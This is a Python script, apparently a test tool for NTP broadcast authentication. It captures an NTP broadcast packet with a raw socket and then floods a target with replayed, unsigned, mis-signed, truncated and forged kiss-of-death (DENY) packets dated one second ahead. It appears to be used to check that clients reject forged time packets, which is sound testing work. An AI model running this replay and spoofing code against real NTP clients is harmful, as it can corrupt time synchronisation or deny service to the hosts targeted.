# SPDX-License-Identifier: MIT
"""broadcast.py - an attacker with the address of a server that broadcasts, on its machine: takes one of its
packets from the wire, and for some seconds sends that again, packets that nobody signed, and packets
signed wrongly, all of which say that it is a second later.

broadcast.py SOURCE TARGET INTERFACE-INDEX SECONDS [FILE]: in FILE is the packet to send again; else it
gets one. Prints how many were sent."""
import os
import socket
import struct
import sys
import time

import ntp

ETH_P_ALL = 3
PAUSE_S = 0.02
DENY = int.from_bytes(b"DENY", "big")


def capture():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as sock:
        sock.settimeout(ntp.WAIT_S)
        while True:
            frame = sock.recv(2048)
            at = 14 + (40 if frame[12:14] == b"\x86\xdd" else 20)
            ports = struct.unpack(">HH", frame[at:at + 4]) if len(frame) >= at + 56 else ()
            if ports == (123, 123) and frame[at + 8] & 7 == 5:
                return frame[at + 8:]


def later(packet):
    fields = list(ntp.HEADER.unpack(packet[:48]))
    fields[7] = fields[10] = ntp.to_ntp(time.time() + 1)
    return ntp.HEADER.pack(*fields)


def kiss(packet):
    fields = list(ntp.HEADER.unpack(later(packet)))
    fields[1], fields[6] = 0, DENY
    return ntp.HEADER.pack(*fields)


def attacks(old):
    new = later(old)
    digest = old[52:]
    other = bytes.fromhex("a5000102030405060708090a0b0c0d0e0f101112")  # key 2, which is a good one
    return [
        old,
        new,
        new + struct.pack(">I", 4) + os.urandom(len(digest)),
        new + struct.pack(">I", 4) + digest,
        new + struct.pack(">I", 4) + digest[:12],
        new + struct.pack(">I", 99) + digest,
        new + ntp.mac(2, other, new, "sha1"),
        new + b"\0\0\0\0",
        kiss(old),
        kiss(old) + b"\0\0\0\0",
        old[:48],
        old[:47],
        b"\x25",
    ]


def open_socket(source, index):
    if ":" in source:
        sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        sock.bind((source.partition("%")[0], 0, 0, index))
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(source))
        sock.bind((source, 0))
    return sock


def main(source, target, index, seconds, path):
    if os.path.exists(path):
        with open(path, "rb") as file:
            old = file.read()
    else:
        old = capture()
        with open(path, "wb") as file:
            file.write(old)
    host = target.partition("%")[0]
    where = (host, 123, 0, index) if ":" in host else (host, 123)
    time.sleep(1.1)  # so that a newer one has been heard, which makes the old one a replay
    count = 0
    end = time.monotonic() + seconds
    with open_socket(source, index) as sock:
        while time.monotonic() < end:
            for packet in attacks(old):
                sock.sendto(packet, where)
                count += 1
            time.sleep(PAUSE_S)
    print(count)


main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5])
